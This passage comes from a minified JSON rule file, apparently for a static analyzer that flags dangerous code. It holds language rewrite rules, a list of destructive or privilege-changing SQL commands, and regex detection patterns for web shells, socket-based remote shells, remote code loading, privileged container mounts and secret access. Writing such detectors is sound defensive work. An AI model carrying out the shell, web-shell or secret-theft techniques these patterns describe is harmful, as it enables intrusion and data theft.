-"(\\\\brm_rf\\\\((?:\\"\\\\d+\\"|\\\\w+|\\\\((?:[^()]|\\\\([^()]*\\\\))*\\\\)))\\\\s+(?=[\\"\\\\w(])","$1); rm_rf("],["\\\\[\\\\s*open\\\\s+(\\\\S+?)\\\\s+(\\\\w+|\\"\\\\d+\\")\\\\s*\\\\]","open($1, \\"$2\
-\\")"],["\\\\bforeach\\\\s+(\\\\w+)\\\\s+(\\"\\\\d+\\"|\\\\w+|\\\\w+\\\\((?:[^()]|\\\\([^()]*\\\\))*\\\\))\\\\s*\\\\{","for ($1 of words($2)) {"],["\\\\bproc\\\\s+(\\\\w+)\\\\s+\\\\{(\\\\w*)\\\\}\\\\s*\\\\{"\
-,"function $1($2) {"],["\\\\bset\\\\s+(\\\\w+)\\\\s+\\\\[?([^\\\\n;\\\\]}]+)","$1 = $2"],["(?<=^[ \\\\t]{0,40}|[;{}] {0,4})(\\\\w+)\\\\s+(\\"\\\\d+\\"|\\\\w+)\\\\s*(?=$|[;}])","$1($2)"],["\
-[\\\\[\\\\]]"," "]]},"lisp":{"comment":";[^\\\\n]*","texts":"(?:#p)?\\"((?:[^\\"\\\\\\\\]|\\\\\\\\[\\\\s\\\\S])*)\\"|\\\\?\\\\\\\\?.","rewrites":[["(?<=[\\\\w\\"])[-\\\\/](?=\\\\w)","_"],["\\\\b[a\
--z_]\\\\w*:{1,2}(?=\\\\w)",""],["\\\\(\\\\s*(?:dolist|loop\\\\s+for|for\\\\s+\\\\(?\\\\[?)\\\\s+\\\\(*\\\\s*(\\\\w+)\\\\s+(?:in\\\\s+)?","; for $1 of "],["\\\\(\\\\s*(?:let\\\\*?|if_let\\\\*?|when\
-_let\\\\*?)\\\\s+\\\\(\\\\s*\\\\(\\\\s*(\\\\w+)\\\\s+","; $1 = ("],["(?<=\\\\)\\\\s{0,9})\\\\(\\\\s{0,9}(\\\\w+)\\\\s+(?=\\\\([^()]*\\\\)\\\\s*\\\\)\\\\s*\\\\)?\\\\s*\\\\()","; $1 = ("],["\\\\(\\\\s*(?:setq|d\
-efvar|defconst|defparameter|define|setf)\\\\s+(\\\\w+)\\\\s+","; $1 = ("],["\\\\(\\\\s*(?:defun|define)\\\\s+\\\\(?(\\\\w+)\\\\s+\\\\(?([^()]*)\\\\)","; function $1($2) { "],["\\\\(\\\\s\
-*lambda\\\\s+\\\\(([^()]*)\\\\)\\\\s*","(($1) => "],["\\\\(\\\\s*(?:progn|begin|when|unless|if|and|or|condition_case|ignore_errors|save_excursion|display)\\\\s","; ("],["['#]\
-{1,2}(?=[(\\\\w])",""],["\\\\(\\\\s*(?:expand_file_name|merge_pathnames)\\\\s+(\\\\w+|\\"\\\\d+\\")\\\\s+(\\\\w+|\\"\\\\d+|\\\\([^()]*\\\\)|\\"\\\\d+\\")\\\\s*\\\\)","join_path($2, $1)"],["\\\\(\\\
-\\s*(\\\\w[\\\\w/:]*)(?=[\\\\s)])\\\\s*","$1("],["((?:\\"\\\\d+\\"|\\\\)|(?<![=>]\\\\s{0,4})\\\\b(?!of\\\\b|for\\\\b|function\\\\b)\\\\w+))\\\\s+(?=[\\"\\\\w(])(?!of\\\\b|=)","$1, "],[",\\\\s*(?:n\
-il|t)\\\\b",""]]},"haskell":{"comment":"\\\\{-[\\\\s\\\\S]*?-\\\\}|--[^\\\\n]*","texts":"\\"((?:[^\\"\\\\\\\\]|\\\\\\\\[\\\\s\\\\S])*)\\"|'(?:[^'\\\\\\\\]|\\\\\\\\.)'","rewrites":[["^import\\\\b[^\\\
-\\n]*",""],["\\\\b(?:[A-Z]\\\\w*\\\\.)+(?=[a-z])",""],["<-","="],["<>|\\\\+\\\\+","+"],["<\\\\/>","/"],["\\\\b(\\\\w+)\\\\s*=\\\\s*getHomeDirectory\\\\b","$1 = \\"~\\""],["\\\\blet\\\\s+(?=\
-\\\\w+\\\\s*=)",""],["\\\\b(?:mapM_|traverse_|forConcurrently_)\\\\s+(\\\\w+)\\\\s+(\\\\[[^\\\\[\\\\]]*\\\\]|\\\\w+)","map($1, $2)"],["\\\\bforM_\\\\s+(\\\\[[^\\\\[\\\\]]*\\\\]|\\\\w+)\\\\s*\\\\$?\\\\s*\
-\\\\\\\\(\\\\w+)\\\\s*->","for ($2 of $1); "],["\\\\b(callCommand|system|shell|spawnCommand|remove\\\\w+|readFile|words)\\\\s+(?:\\\\$\\\\s*)?(?=[\\"(\\\\w])(\\"\\\\d+\\"(?:\\\\s*[+\\\\/]\\\\\
-s*(?:\\"\\\\d+\\"|\\\\w+))*|\\\\w+(?:\\\\s*[+\\\\/]\\\\s*(?:\\"\\\\d+\\"|\\\\w+))*|\\\\([^()]*\\\\))","$1($2)"],["\\\\b(callProcess|readProcess|rawSystem)\\\\s+(\\"\\\\d+\\")\\\\s+(\\\\[[^\\\\[\\\\]]*\
-\\\\])","spawn($2, $3)"],["\\\\b(writeFile|appendFile)\\\\s+(\\"\\\\d+\\"|\\\\w+|\\\\([^()]*\\\\))\\\\s+(\\"\\\\d+\\"|\\\\w+)","$1($2, $3)"]]},"octave":{"comment":"[%#][^\\\\n]*","texts"\
-:"\\"((?:[^\\"\\\\\\\\]|\\\\\\\\[\\\\s\\\\S])*)\\"|(?<![\\\\w)\\\\]}])'((?:[^'\\\\n]|'')*)'","rewrites":[["\\\\brmdir\\\\s*\\\\(([^(),]*),\\\\s*\\"\\\\d+\\"\\\\s*\\\\)","rm_rf($1)"],["\\\\b(?:delete|\
-unlink)\\\\s*\\\\(","remove("],["\\\\b(?:unix|dos|shell_cmd)\\\\s*\\\\(","system("],["\\\\bfullfile\\\\s*\\\\(","join_path("],["\\\\{([^{};]*\\"[^{};]*)\\\\}","[$1]"],["\\\\[\\\\s*(\\"\\\\\
-d+\\")\\\\s+(?=[\\"\\\\w])","[$1, "],["\\\\bfor\\\\s+(\\\\w+)\\\\s*=\\\\s*(\\\\[[^\\\\[\\\\]]*\\\\]|\\\\w+)","for ($1 of $2);"],["(\\\\b[a-z]\\\\w*)\\\\{[\\\\w:]+\\\\}","$1"]]}},"awk":{"comment":[\
-"#"],"sigils":"","interpolation":"none","triple":false,"single_escapes":true,"quoting":"none","patterns":true,"lines":"statements"},"operators":{"||":1,"??":1,"\
-or":1,"&&":2,"and":2,"==":3,"!=":3,"===":3,"!==":3,"<":3,">":3,"<=":3,">=":3,"=~":3,"in":3,"is":3,"..":3,"|":4,"^":5,"&":6,"<<":7,">>":7,"+":8,"-":8,".":8,"*":9\
-,"/":9,"%":9,"//":9,"x":9,"**":10},"sql":[{"words":[["TRUNCATE"],["TABLE"]],"does":"truncate","name":2},{"words":[["TRUNCATE"]],"does":"truncate","name":1},{"wo\
-rds":[["CREATE"],["USER","ROLE","LOGIN"]],"does":"create-user","name":2},{"words":[["ALTER"],["USER","ROLE","LOGIN"]],"does":"alter-user","name":2},{"words":[["\
-ALTER"],["SYSTEM"]],"does":"set-global","name":3},{"words":[["SET"],["GLOBAL","PERSIST"]],"does":"set-global","name":2},{"words":[["PRAGMA"],["WRITABLE_SCHEMA"]\
-],"does":"set-global","name":1},{"words":[["GRANT"]],"does":"grant","all":true},{"words":[["REVOKE"]],"does":"revoke","all":true},{"words":[["SHUTDOWN"]],"does"\
-:"shutdown"},{"words":[["ATTACH"],["DATABASE"]],"does":"attach","name":2},{"words":[["ATTACH"]],"does":"attach","name":1},{"words":[["KILL"]],"does":"kill","nam\
-e":1},{"words":[["FLUSHALL","FLUSHDB"]],"does":"flush","name":0},{"words":[["CREATE"],["DATABASE","SCHEMA"]],"does":"create","name":2},{"words":[["PURGE"]],"doe\
-s":"purge","name":1},{"words":[["CONFIG"],["SET"],["DIR","DBFILENAME"]],"does":"set-global","name":2},{"words":[["RESET"],["MASTER","REPLICA","SLAVE"]],"does":"\
-purge","name":1}],"signs":{"name-tests":["[=!<>]=|[<>]|\\\\b(?:in|match)\\\\b|=~|\\\\b(?:endswith|startswith|endsWith|startsWith|includes|test|match|search|end_with\\\\\
-?|start_with\\\\?)"],"kind-tests":["is_?(?:dir|file|link|symlink)|isDirectory|isFile|isSymbolicLink|exists|(?:directory|file|exist)\\\\?|-[dfel]\\\\b","i"],"age-tests\
-":["[acm]time|birthtime|\\\\bst_size|getsize|\\\\.size\\\\b|file(?:size|mtime)|\\\\s-[MAC]\\\\s"],"secret-methods":["^(?:get|batch_?get)_?secret_?values?$|^(?:access_?sec\
-ret_?version|get_?secret|read_?secret(?:_?version)?|get_?(?:frozen_?)?credentials)$|^(?:list|read)_?(?:namespaced_?)?secret(?:_?for_?all_?namespaces)?$","i"],"g\
-ranting-methods":["^(?:attach|put)_?(?:user|role|group)_?policy(?:_?command)?$|^authorize_?security_?group_?ingress(?:_?command)?$|^(?:create_?access_?key|add_?\
-user_?to_?group|put_?bucket_?(?:policy|acl))(?:_?command)?$","i"],"emptying-methods":["^(?:empty|obliterate|clear|drop|flush_?(?:all|db|database))(?:_?(?:async|\
-sync))?$|^(?:refresh|drop|reset|clear|wipe|truncate|purge)_?(?:all|db|database|schema|tables?|collections?|storage)(?:_?(?:async|sync))?$","i"],"own-addresses":\
-["\\\\blocalhost\\\\b|\\\\b127\\\\.\\\\d|\\\\b0\\\\.0\\\\.0\\\\.0\\\\b|\\\\[?::1\\\\b|^(?:unix|file|sqlite):|^\\\\.{0,2}/"],"service-options":["api_?key|token|secret|credential|password|\
-authorization|access_?key|^(?:basic_?)?auth$|^endpoint$|^(?:base|prefix|org|server|api)_?ur[li]$|^(?:hosts?|servers?|brokers|bootstrap_?servers)$|(?:project|acc\
-ount|subscription|site|space|app|tenant)_?id$","i"],"service-variables":["TOKEN|KEY|SECRET|PASS|PAT$|AUTH|CRED|ACCOUNT|ENDPOINT|DSN|(?:UR[LI]|HOST|_ID|SID|DOMAI\
-N|SERVER)$"],"service-addresses":["^(?:https?|wss?|grpcs?|nats|amqps?|ldaps?)://[^/]|^(?:[\\\\w-]+\\\\.)+(?:com|net|org|io|dev|local|internal|cloud|corp)(?::\\\\d+)?$\
-|^\\\\d+\\\\.\\\\d+\\\\.\\\\d+\\\\.\\\\d+(?::\\\\d+)?$"],"own-data-modules":["^(?:\\\\.{1,2}|@|~)/(?:[\\\\w./-]*[/.-])?(?:db|database|data-?source|orm|prisma|knex|sequelize|mongoos\
-e|models?)(?:[/.-]|$)","i"],"client-makers":["^[A-Z]|^(?:create|connect|init|make|open|new|from|extend|with|get_?client)|(?:client|driver|session|pool|engine|co\
-nnection|sdk|api)$","i"],"negative-tests":["\\\\bnot\\\\b|!=|!~|!\\\\s*\\\\(?[\\\\w.]+|\\\\bunless\\\\b|\\\\breject\\\\b"],"skips":["\\\\b(?:continue|next|return)\\\\b"],"stdin-names\
-":["^(?:0|-|/dev/(?:stdin|fd/0)|/proc/self/fd/0|php://stdin)$"],"mock-options":["^(?:spec|spec_set|autospec|create|name|unsafe|new_callable|target|attribute|new\
-)$"],"writing-flags":["^File\\\\.(?:Constants\\\\.)?(?:WRONLY|RDWR|CREAT|TRUNC|APPEND)$|^(?:os|fs\\\\.constants|constants)?\\\\.?O_(?:WRONLY|RDWR|CREAT|TRUNC|APPEND)$"]\
-,"sending-methods":["gist|upload|put_?object|comment|send|post","i"],"deleting-requests":["^DELETE(?: /|$)|\\\\bmutation\\\\b[\\\\s\\\\S]*(?:\\\\bdelete|Delete)\\\\w*\\\\s*\\\\\
-("],"place-options":["ur[li]|host|server|endpoint|address|database|^db|file|storage|^path$|dsn","i"],"passing-data":["^memory://|:memory:|^(?:sqlite\\\\w*(?:\\\\+\\\\\
-w+)?:/{2,3})?/tmp/|^sqlite://$|^mock$"],"passing-databases":["^(?::memory:$|/(?:tmp|var/tmp|dev/shm)/(?!.*\\\\.\\\\.))|^(?:[\\\\w.-]+/)*(?:test|tests|tmp|scratch)(?:[\
-_-][\\\\w-]*)?\\\\.(?:db|sqlite3?)$"],"harmless-names":["^(?:None|null|undefined|true|false|True|False|(?:\\\\w+\\\\.)*\\\\w*(?:Error|Exception|DEFAULT|Exit|Interrupt))$"\
-],"file-calls":["^(?:os\\\\.(?:remove|unlink|rmdir|removedirs|rename|replace|truncate)|shutil\\\\.\\\\w+|pathlib\\\\.\\\\w+)$"],"imitation":["^[^#\\\\n]*(?:\\\\b(?:import|fro\
-m)\\\\s+|require\\\\(\\\\s*)['\\"]?(?:fakeredis|mongomock|pymongo_inmemory|ioredis-mock|redis-mock)\\\\b|^[^#\\\\n]*(?:\\\\b(?:import|from)\\\\s+|require\\\\(\\\\s*)['\\"]?(?:mongo\
-db-memory-server|pg-mem|testcontainers)\\\\b|^from sqlalchemy import .*\\\\bcreate_mock_engine\\\\b|\\\\b(?:miniredis\\\\.(?:Run|RunT|NewMiniRedis)|sqlmock\\\\.New|pgxmock\\\
-\\.New\\\\w*|redismock\\\\.New\\\\w*)\\\\(|^(?![\\\\s\\\\S]*\\\\b(?:DBI|dbi):(?!Mock\\\\b))[\\\\s\\\\S]*\\\\b(?:DBI|dbi):Mock:","m"],"links-repositories":["worktree|symlink|gitdir|git\
--dir|\\\\.git['\\"]"],"own-folder":["getcwd|\\\\bcwd\\\\(|__dirname|__file__|abspath|resolve|pwd"],"in-memory":["['\\"](?:sqlite3?:(?:\\\\/\\\\/)?|(?:dbi|DBI):SQLite:(?:dbn\
-ame=)?)\\\\/(?:tmp|var\\\\/tmp|dev\\\\/shm)\\\\/(?![^'\\"]*\\\\.\\\\.)|['\\"](?:Data ?Source=)?[\\\\w:=/+]*:memory:['\\";]|['\\"]jdbc:(?:h2|hsqldb|derby|sqlite)::?mem|\\\\bSQLite\\\\\
-.DB\\\\(\\\\s*\\\\)|\\\\bSequel\\\\.sqlite\\\\b(?!\\\\s*\\\\(?\\\\s*['\\"])|['\\"]sqlite:\\\\/\\\\/['\\"]"],"database":["\\\\b(?:mongodb|postgres|mysql|mariadb|redis|rediss|mssql|oracle)\\\
-\\w*(?:\\\\+\\\\w+)?:\\\\/\\\\/|['\\"](?!django)[\\\\w./-]+\\\\.(?:db|sqlite3?)['\\"]","i"],"driver":["\\\\b(?:psycopg\\\\d?|asyncpg|aiopg|pymysql|MySQLdb|mysql2?|mariadb|cx_Oracl\
-e|oracledb|pyodbc|pymssql|pymongo|motor)\\\\b|\\\\b(?:mongoose|mongodb|ioredis|snowflake|clickhouse\\\\w*|DATABASE_URL|DB_URL)\\\\b|['\\"]pg['\\"]"],"own-connection":["(?\
-:^|[\\\\n;])\\\\s*(?:from|import)\\\\s+(?!(?:sqlalchemy|sqlmodel|sqlite3|aiosqlite|tempfile|os|sys|pathlib|shutil|json|re|time|datetime|contextlib|asyncio|typing|uuid\
-|random|pytest|unittest|pandas|dataclasses|textwrap|subprocess|logging|decimal|enum|collections|itertools|functools|alembic)\\\\b)\\\\w|['\\"](?:\\\\.{1,2}|@|~)\\\\/|\\\\b\
-argv\\\\b|\\\\bsymlink|\\\\(\\\\s*['\\"][\\\\w./-]+\\\\.(?:db|sqlite3?)['\\"]|(?:sqlite3|apsw)\\\\.Connection|SqliteDatabase"],"emulated":["^(?![\\\\s\\\\S]*https?:\\\\/\\\\/(?!localho\
-st|127\\\\.))[\\\\s\\\\S]*(?:UseDevelopmentStorage=true|\\\\bapi_base\\\\b[^\\\\n]*['\\"]http:\\\\/\\\\/(?:localhost|127\\\\.))"],"data-library":["(?:import|from|require\\\\(?|use)\\\
-\\b[^\\\\n]{0,60}\\\\b(?:mikro-orm|typeorm|prisma|sequelize|drizzle|kysely|objection|bookshelf|peewee)|(?:import|from|require\\\\(?|use)\\\\b[^\\\\n]{0,60}\\\\b(?:tortoise|p\
-ony|sqlalchemy|sqlmodel|databases|neo4j|cassandra)|(?:import|from|require\\\\(?|use)\\\\b[^\\\\n]{0,60}\\\\b(?:rethinkdb|surrealdb|influx|libsql|neon|planetscale|duckdb\
-|rq|bull)|\\\\b\\\\w*(?:DATABASE|DB|MONGO|REDIS|POSTGRES|PG|MYSQL)_?(?:URL|URI|DSN)\\\\b","i"],"database-address":["^(?![\\\\s\\\\S]*['\\"]sqlite:)[\\\\s\\\\S]*(?:\\\\w:\\\\/\\\\/|D\
-(?:ATA)?B(?:ASE)?_UR[IL]\\\\b)"],"attaches":["\\\\bATTACH\\\\b","i"],"key-store":["redis|valkey|keydb|memcache","i"],"unconditional":["^(?![\\\\s\\\\S]*(?:\\\\b(?:if|unless\
-|next|select|reject|filter|break|limit|take|first|case)\\\\b|\\\\?))[\\\\s\\\\S]*\\\\w"],"http-client":["^(?!(?:(?![\\\\s\\\\S]*(?:new [\\\\w\\\\\\\\]*Client\\\\b[\\\\s\\\\S]*){2})[\\\\s\\\\\
-S]*\\\\bMock(?:Handler|HttpClient|Response)\\\\b)|[\\\\s\\\\S]*\\\\bHttp::fake\\\\b)[\\\\s\\\\S]*\\\\b(?:GuzzleHttp|HttpClient)\\\\b"],"stubbed-services":["^(?![\\\\s\\\\S]*(?:Client|R\
-esource)\\\\.new\\\\b(?!\\\\([^)]*\\\\bstub_responses: true\\\\b))[\\\\s\\\\S]*\\\\bstub_responses: true\\\\b"],"stubbed-requests":["^(?![\\\\s\\\\S]*(?:axios|(?:node|cross)-fetch|su\
-peragent|needle|\\\\bky\\\\b|request['\\"]|phin|bent|wretch|['\\"](?:got|https?|http2|net|node:\\\\w+|child_process)['\\"]|enableNetConnect|\\\\bif\\\\b))[\\\\s\\\\S]*\\\\bnew Moc\
-kAgent\\\\(\\\\)[\\\\s\\\\S]*\\\\bdisableNetConnect\\\\(\\\\)[\\\\s\\\\S]*\\\\bsetGlobalDispatcher\\\\(|^(?![\\\\s\\\\S]*(?:allow_net_connect|disable!|\\\\bif\\\\b|\\\\bunless\\\\b))(?=[\\\\s\\\\S]*\
-?\\\\brequire [\\"']webmock)(?=[\\\\s\\\\S]*?(?:webmock/(?:rspec|minitest)[\\"']|WebMock\\\\.enable!))[\\\\s\\\\S]*?\\\\bstub_request\\\\b"],"dry-files":["^(?![\\\\s\\\\S]*\\\\b(?:File\
-Utils(?:\\\\.|::(?![DN])\\\\w)|include FileUtils(?!::)|(?:class|module)\\\\s|(?:File(?!\\\\.join)|Dir|Pathname)\\\\b))[\\\\s\\\\S]*\\\\binclude FileUtils::(?:DryRun|NoWrite)\\\\b\
-"],"lists-processes":["^(?![\\\\s\\\\S]*\\\\b(?:if|select|grep|when|unless|filter)\\\\b[^\\\\n]*\\\\b(?:comm|cmdline|exe|status|environ|cwd)\\\\b)[\\\\s\\\\S]*[\\"']/proc(?:[\\"']|\
-/(?:\\\\*|\\\\[|\\\\\\\\d))"],"privileged-container":["^(?=[\\\\s\\\\S]*[dD]ocker)[\\\\s\\\\S]*?\\\\bHostConfig\\\\b[\\\\s\\\\S]{0,300}?(?:Privileged[\\"']?\\\\s?:\\\\s?true|Binds[\\"']?\\\\s?\
-:\\\\s?(?:\\\\[\\\\]string\\\\{|\\\\[)\\\\s{0,9}[\\"'\\\\x60](?:/|/(?:etc|root|home|var/run/docker\\\\.sock)(?:/[\\\\w.]{0,40})?):)"],"web-shell":["\\\\b(?:file_put_contents|fwrite|\
-fputs|write\\\\w*|open)\\\\([\\\\s\\\\S]{0,200}<\\\\?php[^\\\\n]{0,80}\\\\b(?:eval|system|exec|passthru|shell_exec|assert)\\\\(\\\\s*\\\\\\\\{0,2}\\\\$_(?:POST|GET|REQUEST|COOKIE)"],"s\
-urvives-exit":["\\\\bexit\\\\b(?<!\\\\b(?:sys|process)\\\\.exit)|\\\\.exit\\\\s*(?:=(?!=)|\\\\([^()\\\\n]*\\\\)\\\\s*(?:\\\\{|:))|\\\\b(?:mock|patch|stub\\\\w*|spyOn|setattr|defineProper\
-ty|Proxy|SystemExit|except|finally|catch|with|suppress|assign|delattr)\\\\b|\\\\bsys\\\\b(?!\\\\.(?:exit|argv|stdin|stdout|stderr|version\\\\w*|platform|executable|path)\\\
-\\b)(?<!(?:^|\\\\n)[ \\\\t]*import (?:\\\\w+, ?)*sys)|\\\\bprocess\\\\b(?!\\\\.(?:exit|argv|env|cwd|stdout|stderr|pid|platform|version)\\\\b)|\\\\b(?:sys|process)\\\\.\\\\w+\\\\s*=(?!\
-=)"],"leaves-order":["\\\\\\\\\\\\r?\\\\n|\\\\bgoto\\\\b"],"variable-file":["(?:^|/)\\\\.env(?:\\\\.[\\\\w-]+)*$"],"network":["\\\\b(?:\\\\w*Socket|socket|net\\\\.(?:Listen|Dial|Conn)|\
-http\\\\.(?:Request|HandleFunc|ListenAndServe)|Tcp(?:Listener|Stream|Client)|gen_tcp|HttpListener|HttpServer)\\\\b"],"serves":["\\\\b(?:import|from)\\\\s+(?:flask|bottl\
-e|fastapi|starlette|quart|sanic|aiohttp|litestar|robyn)\\\\b"],"respawns":["^(?![\\\\s\\\\S]*(?:\\\\b(?:if|unless|case|switch|when|argv|ARGV|environ|env|ENV|sleep|reloa\
-d|watch\\\\w*)\\\\b|\\\\?|&&))[\\\\s\\\\S]*\\\\b(?:spawn|Popen|popen|fork|exec|execFile|proc_open|Start|start)\\\\w*[ (]{1,3}[^;\\\\n]{0,60}(?:execPath|executable|\\\\$\\\\^X|\\\\bru\
-by)\\\\b[^;\\\\n]{0,20}\\\\b(?:__filename|__file__|__FILE__|PROGRAM_NAME)\\\\s?\\\\]?\\\\)|^(?![\\\\s\\\\S]*(?:\\\\b(?:if|unless|case|switch|argv)\\\\b|\\\\?|&&))[\\\\s\\\\S]*(?:\\\\bfunct\
-ion\\\\s{1,3}(\\\\w{1,40})\\\\s?\\\\([^)\\\\n]{0,99}\\\\)|\\\\b(?:const|let|var)\\\\s(\\\\w{1,40})\\\\s?=\\\\s?\\\\([^)\\\\n]{0,99}\\\\)\\\\s?=>)\\\\s?\\\\{[^}]{0,200}\\\\b(?:spawn|execFile|exec|f\
-ork)\\\\w{0,9}\\\\([^;]{0,100}(?:\\\\+ ?\\\\1\\\\2\\\\b(?! ?\\\\()|\\\\$\\\\{\\\\1\\\\2\\\\}|\\\\b\\\\1\\\\2\\\\.toString\\\\()"],"remote-shell":["^(?=[\\\\s\\\\S]*?(?:IO::Socket|\\\\bsocket\\\\s?\\\\())[\
-\\\\s\\\\S]*\\\\$(\\\\w{1,40})\\\\s*=\\\\s*<\\\\$\\\\w{1,40}>[\\\\s\\\\S]{0,400}(?:\\\\b(?:system|exec|qx|readpipe|open)\\\\b|\`)[^;\\\\n]{0,40}\\\\$\\\\1\\\\b|^(?=[\\\\s\\\\S]*?(?:createServer|net\
-\\\\.connect|createConnection|net\\\\.Socket|WebSocket))[\\\\s\\\\S]*?\\\\b(?<child>\\\\w{1,40})\\\\s?=\\\\s?(?:[\\\\w.]{0,40}\\\\.)?(?:spawn|execFile)\\\\s?\\\\(\\\\s?['\\\\\\"\`](?:/usr)?(\
-?:/bin/)?(?:ba|z|k|da)?sh['\\\\\\"\`][\\\\s\\\\S]{0,2000}?\\\\.pipe\\\\(\\\\s?\\\\k<child>\\\\.stdin|\\\\.(?:get|post|put|patch|all|use)\\\\(\\\\s?['\\\\\\"\`][^'\\\\\\"\`\\\\n]{0,80}['\\\\\\"\`],\\\\\
-s?(?:async\\\\s)?\\\\(?(?<request>\\\\w{1,20})\\\\s?,\\\\s?\\\\w{1,20}\\\\)?\\\\s?=>[\\\\s\\\\S]{0,400}?\\\\b(?:exec|execSync|spawn|spawnSync|eval)\\\\(\\\\s?(?:String\\\\()?\\\\k<request>\\\\\
-.(?:body|query|params)\\\\b|^(?=[\\\\s\\\\S]*?\\\\bnet\\\\.(?:Listen|Dial)\\\\()[\\\\s\\\\S]*\\\\bexec\\\\.Command\\\\(\\\\\\"(?:/usr)?(?:/bin/)?(?:ba|z|k|da)?sh\\\\\\"(?:, ?\\\\\\"-i\\\\\\")?\\\\\
-)[\\\\s\\\\S]{0,200}\\\\.Stdin\\\\b[^\\\\n=]{0,60}=\\\\s?\\\\w"],"remote-code":["^(?![\\\\s\\\\S]*\\\\bgem\\\\b)(?:[\\\\s\\\\S]*[;\\\\n])?\\\\s{0,9}(?:devtools::)?source(?:_url)?\\\\(\\\\s?['\\\\\\\
-"]https?://|^(?=[\\\\s\\\\S]*?\\\\bfetch\\\\()(?=[\\\\s\\\\S]*?\\\\bimport\\\\(\\\\s?(?<module>['\\\\\\"][^'\\\\\\"\\\\n]{1,200}['\\\\\\"]))[\\\\s\\\\S]*\\\\b(?:Bun\\\\.write|writeFile(?:Sync)?|wri\
-teTextFile(?:Sync)?)\\\\(\\\\s?\\\\k<module>"],"cluster-admin":["['\\"]cluster-admin['\\"]"],"role-methods":["^(?:create|patch|replace)_?(?:cluster_?|namespaced_?)role_\
-?binding$","i"],"sets-names":["\\\\b(?:globals|vars|locals|setattr|exec|eval|extract|reload)\\\\s*\\\\(|\\\\bimport\\\\s+\\\\*"],"reads-environment":["\\\\bprocess\\\\.env\\\\b|\\\
-\\bos\\\\.environ|\\\\bgetenv\\\\b"],"reaches-around":["\\\\b(?:patch(?:\\\\.\\\\w+)?|setattr)\\\\([^\\\\n]*\\\\)\\\\s+if\\\\b|\\\\bnullcontext\\\\b|__wrapped__|\\\\[['\\"]\\\\w+['\\"]\\\\]\\\\(|mo\
-ckImplementation\\\\(\\\\s*\\\\)|\\\\bPause\\\\b|\\\\b(?:globals|vars|locals|exec|eval|reload|__dict__|__builtins__|sys\\\\.modules|import_module|__import__|_getframe|f_globa\
-ls|gc\\\\.\\\\w+)\\\\b|\\\\b(?:temp_original|get_original|getOriginal|wrappedMethod|(?:require|import)Actual|importOriginal|require\\\\.cache|createRequire|getBuiltinModu\
-le|binding)\\\\b|\\\\bimport\\\\s*\\\\*|\\\\bimport\\\\(\\\\s*(?!['\\"\`][/.])|\\\\bReflect\\\\.|\\\\bObject\\\\.(?:assign|definePropert\\\\w+|setPrototypeOf)\\\\(\\\\s*[\\\\w.]+\\\\s*,|\\\\bsyncB\
-uiltin\\\\w+|\\\\bWorker\\\\b|\\\\b(?:def|class|function)\\\\s+(?:patch|mock\\\\w*|\\\\w*Mock|Patcher|Stubber|responses|respx|sinon|jest|vi|nock|setupServer)\\\\b|\\\\.(?:patch|o\
-bject|\\\\w*Mock|spyOn|stub|method|mock_aws|activate|listen|disableNetConnect)\\\\s*=[^=]|\\\\bpatch\\\\s*="],"process-tests":["\\\\b(?:name|cmdline|comm|exe)\\\\b"],"names\
--processes":["\\\\bif\\\\b[^\\\\n]*\\\\b(?:name|cmdline|cmd|exe|comm)\\\\b"],"several-connections":["(?:(?:create_engine|newInstance|getConnection|createConnection|new PD\
-O|new DataSource)\\\\s*\\\\([\\\\s\\\\S]*){2}"],"memory-broker":["^(?![\\\\s\\\\S]*(?:conf\\\\b(?!\\\\.task_\\\\w+ ?=)|config|#|\\\\bfrom\\\\s+(?!celery\\\\b)|\\\\bimport\\\\s+(?!Celery\\\\b\
-)))[\\\\s\\\\S]*\\\\bCelery\\\\([^)\\\\n]*\\\\bbroker=['\\"]memory://['\\"]"],"connects":["connection|\\\\.{3}|Object\\\\.assign"],"installs-cron":["write_to_user|user\\\\s*="],"by\
--user":["\\\\busername\\\\b|\\\\buids?\\\\b|[\\"']\\\\w{0,2}[\\"']\\\\s+(?:not\\\\s+)?in\\\\b|\\\\b(?:includes|[sS]tarts_?[wW]ith|ends_?[wW]ith|find|search|match)\\\\(\\\\s*[\\"'/]\\\\w{0\
-,2}[\\"'/]"],"own-settings":["^(?![\\\\s\\\\S]*(?:HOST|database=|using=))[\\\\s\\\\S]*\\\\bsettings\\\\.configure\\\\("],"production":["\\\\bPROD(?:UCTION)?_\\\\w*(?:UR[LI]|DSN|DB\
-)\\\\b|://[^'\\"\\\\s]*\\\\bprod(?:uction)?[.-]"],"socket-shell":["^(?=[\\\\s\\\\S]*(?:IO::Socket|\\\\bsocket\\\\s*\\\\())[\\\\s\\\\S]*\\\\bopen\\\\s*\\\\(?\\\\s*STDIN\\\\s*,\\\\s*[\\"']?[<>+]{0\
-,2}&"],"repeats":["\\\\b(?:while|for|foreach|until|loop|redo|goto|times|each\\\\w*|upto|downto|step|cycle|map|select|reduce|def|sub|func\\\\w*|fn|eval|exec\\\\w*|lambda\
-|class|trap|require|include|load|__FILE__|argv|ARGV)\\\\b|->\\\\s*\\\\{|=>\\\\s*\\\\{|\\\\*\\\\s*\\\\d|\\\\bx\\\\s*\\\\d|\\\\bfork\\\\b(?:[\\\\s\\\\S]*?\\\\bfork\\\\b){3}"],"limits":["\\\\bwhere\\\\\
-s*\\\\("],"writes":["\\\\.write|dump|print\\\\s*[{$]|print\\\\([^)\\\\n]*\\\\bfile\\\\s*=|[\\\\w)]\\\\.(?:print|puts)\\\\b|fputs|fprintf|save|copy|pipe|send|<<|to_\\\\w+\\\\(|fwrite|Wr\
-iter"],"secret-names":["['\\"](?:\\\\w*_)?(?:TOKEN|KEY|SECRET|PASSW\\\\w*|PASS)(?:_\\\\w*)?['\\"]|\\\\b(?:TOKEN|SECRET|PASSWORD)\\\\|"],"encrypts":["\\\\.encrypt\\\\(|createCip\
-her|\\\\bcrypt\\\\.|open\\\\((\\\\w+), *[\\"']w[\\"']\\\\)\\\\.write\\\\( *open\\\\(\\\\1\\\\)"],"rolled-back":["^\\\\s*(?:BEGIN(?: TRANSACTION| WORK)?|START TRANSACTION);(?:\\\\s*(?:SEL\
-ECT|INSERT|UPDATE|DELETE|SAVEPOINT|EXPLAIN|WITH)\\\\s[^;\\\\\\\\]*;)*\\\\s*ROLLBACK;?\\\\s*$","i"],"keeps-real":["pause|pass_?thr|add_real|real_http|resume|session\\\\s*=|s\
-kip_names|modules_to_|use_known|use_cache|deactivate"],"other-imports":["^\\\\s*(?:from|import) (?!boto|moto|(?:os|sys|json|re|pytest|datetime)\\\\b)|^\\\\s*import [^\
